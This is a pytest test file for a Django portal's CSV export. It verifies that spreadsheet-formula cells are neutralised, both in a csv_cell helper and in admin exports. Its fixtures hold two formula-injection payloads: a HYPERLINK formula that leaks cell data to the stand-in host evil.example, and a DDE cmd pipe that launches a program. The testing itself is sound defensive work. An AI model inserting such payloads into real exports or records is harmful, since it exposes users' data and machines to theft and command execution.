"""The one CSV cell rule (core/spreadsheet.py) and every CSV the portal writes going through it."""

import csv
import io

import pytest
from django.urls import reverse

from core.spreadsheet import csv_cell
from tests.factories import ContingentFactory, HotspotFactory, OperationReportFactory, TrainingRecordFactory

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
PIPE = "=cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+cmd", "'-1+cmd"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("-72.3", "-72.3"),
        (-72.3, -72.3),
        (None, ""),
        (True, "true"),
        ("plain", "plain"),
        (["Kenya", PIPE], f"Kenya; '{PIPE}"),
        ([PIPE, "Kenya"], f"'{PIPE}; Kenya"),
        ({"a": "=x"}, "a='=x"),
    ],
)
def test_a_cell_a_spreadsheet_would_run_is_defused(value, expected):
    assert csv_cell(value) == expected


def _rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode())))


def _admin_export(client, changelist: str, pk) -> dict:
    response = client.post(reverse(changelist), {"action": "export_as_csv", "_selected_action": [pk]})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    (row,) = _rows(response.content)
    return row


@pytest.mark.django_db
def test_admin_exports_defuse_many_to_many_cells(client, admin_user):
    hotspot = HotspotFactory(name=HYPERLINK)
    contingent = ContingentFactory(country_code="ZZ", name=PIPE)
    report = OperationReportFactory(author=admin_user)
    report.hotspots.set([hotspot])
    report.contingents.set([contingent])
    training = TrainingRecordFactory(author=admin_user, course="Course")
    training.providing_contingents.set([contingent])
    hotspot.aliases.create(text=PIPE, language="en")
    client.force_login(admin_user)

    row = _admin_export(client, "admin:operations_operationreport_changelist", report.pk)
    assert row["hotspots"] == "'" + HYPERLINK
    assert row["contingents"] == "'" + PIPE
    row = _admin_export(client, "admin:operations_trainingrecord_changelist", training.pk)
    assert row["providing_contingents"] == "'" + PIPE
    row = _admin_export(client, "admin:hotspots_hotspot_changelist", hotspot.pk)
    assert row["name"] == "'" + HYPERLINK
    assert row["aliases"].startswith("'" + PIPE)
